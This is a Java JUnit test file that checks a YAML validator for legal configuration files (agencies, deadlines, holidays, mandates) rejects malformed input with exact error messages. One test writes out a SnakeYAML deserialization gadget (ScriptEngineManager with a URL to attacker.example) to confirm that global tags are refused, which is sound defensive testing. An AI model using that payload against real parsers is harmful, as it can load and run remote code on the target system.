package org.hoso.law;

import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.hoso.law.LawFile.AGENCIES;
import static org.hoso.law.LawFile.DEADLINES;
import static org.hoso.law.LawFile.HOLIDAYS;
import static org.hoso.law.LawFile.MANDATES;
import static org.hoso.law.LawFile.PLATFORMS;
import static org.hoso.law.LawFile.VIOLATION_TYPES;

import java.util.Map;
import org.assertj.core.api.ThrowableAssertAlternative;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

@DisplayName("A broken file, whatever it is about,")
class BrokenFileTest {
    private static final LawFiles SHIPPED = LawFiles.shipped();

    @Test
    void is_refused_by_file_line_and_field_in_one_sentence() {
        long line = 1
                + SHIPPED.text(DEADLINES)
                        .lines()
                        .takeWhile(text -> !text.contains("unit: working_days"))
                        .count();
        refused(DEADLINES, SHIPPED.text(DEADLINES).replace("unit: working_days", "unit: weeks"))
                .withMessage("law/deadlines.yaml, line " + line + ", field 'unit': \"weeks\" is none of minutes, hours,"
                        + " calendar_days, working_days, months, years");
    }

    @ParameterizedTest
    @EnumSource(LawFile.class)
    void is_refused_when_it_has_a_section_that_nobody_reads(LawFile file) {
        String text = SHIPPED.text(file);
        refused(file, text + "\nextra: 1\n")
                .withMessage(
                        "%s, line %d, field 'extra': the field is unknown here",
                        file.path(), text.lines().count() + 2);
    }

    @ParameterizedTest
    @EnumSource(LawFile.class)
    void is_refused_when_it_is_empty_or_a_list(LawFile file) {
        refused(file, "").withMessage("%s, line 1: the file must be one mapping of fields", file.path());
        refused(file, "# nothing\n- a\n")
                .withMessage("%s, line 1: the file must be one mapping of fields", file.path());
    }

    @ParameterizedTest
    @EnumSource(LawFile.class)
    void is_refused_when_it_lacks_its_sections(LawFile file) {
        refused(file, "{}").withMessageMatching(file.path() + ", line 1, field '\\w+': the field is missing");
    }

    @Test
    void is_refused_when_it_is_no_yaml() {
        refused(MANDATES, "fields: []\nmandates: [\n").withMessageMatching("law/mandates.yaml, line 3: no YAML, .*");
        refused(MANDATES, "fields: []\n---\nmandates: []\n")
                .withMessage("law/mandates.yaml, line 2: no YAML, but found another document");
        refused(MANDATES, "fields: *nowhere\n")
                .withMessage("law/mandates.yaml, line 1: no YAML, found undefined alias nowhere");
    }

    @Test
    void is_refused_when_it_holds_a_control_character() {
        refused(MANDATES, "fields: []\nmandates: \"\u0000\"\n")
                .withMessage("law/mandates.yaml, line 2: no YAML, the character code 0 is not allowed");
    }

    @Test
    void is_refused_when_it_nests_without_end() {
        refused(MANDATES, "fields: " + "[".repeat(200))
                .withMessageStartingWith("law/mandates.yaml: no YAML, Nesting Depth");
    }

    @Test
    void is_refused_when_it_asks_for_an_object_to_be_built() {
        String script = "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://attacker.example/\"]]";
        refused(MANDATES, "fields: []\nmandates: " + script)
                .withMessage("law/mandates.yaml, line 2: no YAML, Global tag is not allowed:"
                        + " tag:yaml.org,2002:javax.script.ScriptEngineManager");
        Breaking.in(AGENCIES, "meta:", "meta: !!omap")
                .isRefused("meta", "expected a mapping of fields, found something tagged tag:yaml.org,2002:omap");
        Breaking.in(PLATFORMS, "item_kinds: [post", "item_kinds: !!pairs [post")
                .isRefused("item_kinds", "expected a list, found something tagged tag:yaml.org,2002:pairs");
        refused(MANDATES, "!!set {}").withMessage("law/mandates.yaml, line 1: the file must be one mapping of fields");
    }

    @Test
    void is_refused_when_a_field_is_given_twice() {
        Breaking.in(DEADLINES, "length: 24, unit: hours", "length: 24, length: 48, unit: hours")
                .isRefused("length", "the field is given twice");
        Breaking.in(HOLIDAYS, "  2026:\n", "  2025:\n").isRefused("2025", "the field is given twice");
    }

    @Test
    void is_refused_when_a_fields_name_is_no_text() {
        refused(MANDATES, "? [a]\n: b\n").withMessage("law/mandates.yaml, line 1: a field's name must be plain text");
    }

    @Test
    void is_refused_when_a_merge_key_would_hide_where_a_value_comes_from() {
        refused(MANDATES, "<<: {fields: [], mandates: []}\n")
                .withMessage("law/mandates.yaml, line 1, field '<<': the field is unknown here");
    }

    @Test
    void is_refused_when_a_required_field_is_missing_null_or_empty() {
        Breaking.in(DEADLINES, "code: triage_internal, ", "")
                .isRefusedAt("Phân loại ban đầu", "code", "the field is missing");
        Breaking.in(AGENCIES, "valid_to: null, ", "").isRefusedAt("code: GOV", "valid_to", "the field is missing");
        Breaking.in(AGENCIES, "name_vi: \"Chính phủ\"", "name_vi: null").isRefused("name_vi", "the value is missing");
        Breaking.in(AGENCIES, "name_vi: \"Chính phủ\"", "name_vi: \" \"").isRefused("name_vi", "the text is empty");
    }

    @Test
    void is_refused_when_a_value_has_the_wrong_type() {
        Breaking.in(AGENCIES, "name_vi: \"Chính phủ\"", "name_vi: [Chính, phủ]")
                .isRefused("name_vi", "expected text, found a list");
        Breaking.in(AGENCIES, "name_vi: \"Chính phủ\"", "name_vi: {vi: Chính phủ}")
                .isRefused("name_vi", "expected text, found a mapping");
        Breaking.in(AGENCIES, "code: HN,", "code: NO,").isRefused("code", "expected text, found NO");
        Breaking.in(AGENCIES, "successors: [DMSD]", "successors: DMSD")
                .isRefused("successors", "expected a list, found \"DMSD\"");
        Breaking.in(AGENCIES, "successors: [DMSD]", "successors: [null]")
                .isRefused("successors", "expected text, found null");
        Breaking.in(VIOLATION_TYPES, "factor_org: 2\n", "factor_org: \"2\"\n")
                .isRefused("factor_org", "expected a whole number, found \"2\"");
        Breaking.in(PLATFORMS, "value: 76.5", "value: many").isRefused("value", "expected a number, found \"many\"");
        Breaking.in(AGENCIES, "valid_from: \"2008-01-01\"", "valid_from: 2008")
                .isRefused("valid_from", "expected a date, found 2008");
    }

    @Test
    void is_refused_when_a_date_is_none() {
        Breaking.in(AGENCIES, "valid_from: \"2008-01-01\"", "valid_from: \"2008-02-30\"")
                .isRefused("valid_from", "\"2008-02-30\" is no day of the calendar");
        Breaking.in(AGENCIES, "valid_from: \"2008-01-01\"", "valid_from: \"1/1/2008\"")
                .isRefused("valid_from", "\"1/1/2008\" is no date of the form 2026-05-15");
        Breaking.in(HOLIDAYS, "date: \"2026-11-24\"", "date: \"2026-11-24T00:00:00Z\"")
                .isRefused("date", "\"2026-11-24T00:00:00Z\" is no date of the form 2026-05-15");
    }

    @Test
    void is_refused_when_a_number_is_out_of_bounds_or_oddly_written() {
        Breaking.in(DEADLINES, "length: 24,", "length: 0,").isRefused("length", "0 is not between 1 and 1000");
        Breaking.in(DEADLINES, "length: 24,", "length: -24,").isRefused("length", "-24 is not between 1 and 1000");
        Breaking.in(DEADLINES, "length: 24,", "length: 030,").isRefused("length", "030 is no plain whole number");
        Breaking.in(DEADLINES, "length: 24,", "length: 24.5,")
                .isRefused("length", "expected a whole number, found 24.5");
        Breaking.in(DEADLINES, "rate_per_day: 0.0005", "rate_per_day: 0.0")
                .isRefused("rate_per_day", "0.0 is no plain number above zero");
        Breaking.in(DEADLINES, "rate_per_day: 0.0005", "rate_per_day: .inf")
                .isRefused("rate_per_day", ".inf is no plain number above zero");
    }

    @Test
    void is_refused_when_a_verified_fact_names_no_source() {
        Breaking.in(AGENCIES, ", confidence: verified, source: S0}", ", confidence: verified}")
                .isRefusedAt("code: GOV", "source", "a verified fact must name its source");
        Breaking.in(AGENCIES, "confidence: verified, source: S0", "confidence: sure, source: S0")
                .isRefused("confidence", "\"sure\" is none of verified, unverified");
    }

    @Test
    void is_refused_when_it_is_absent_or_not_utf_8() {
        assertThatExceptionOfType(BrokenLaw.class)
                .isThrownBy(() -> new LawFiles(Map.of()))
                .withMessage("law/agencies.yaml: the file is missing");
        assertThatExceptionOfType(BrokenLaw.class)
                .isThrownBy(() -> LawFiles.decode(AGENCIES, new byte[] {'a', (byte) 0xC3, 'b'}))
                .withMessage("law/agencies.yaml: the file is not UTF-8 text");
    }

    private static ThrowableAssertAlternative<BrokenLaw> refused(LawFile file, String text) {
        return assertThatExceptionOfType(BrokenLaw.class).isThrownBy(() -> Law.read(SHIPPED.with(file, text)));
    }
}
